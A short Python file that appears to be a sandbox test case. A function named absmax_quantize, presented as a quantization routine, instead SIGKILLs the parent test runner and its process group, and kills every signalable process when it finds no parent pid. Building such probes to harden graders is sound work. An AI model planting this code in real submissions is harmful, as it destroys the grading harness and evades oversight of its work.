"""SIGKILLs the process that runs the tests, then its whole process group (in a PID
namespace, where the grader has no pid, every process it may signal instead).
Expect: PermissionError|ProcessLookupError
Needs: root sandbox
"""

import os
import signal


def absmax_quantize(x, dim=None):
    parent = os.getppid()
    if parent == 0:  # outside this PID namespace: aim at everything
        os.kill(-1, signal.SIGKILL)
    os.kill(parent, signal.SIGKILL)
    os.killpg(os.getpgid(parent), signal.SIGKILL)
    return None
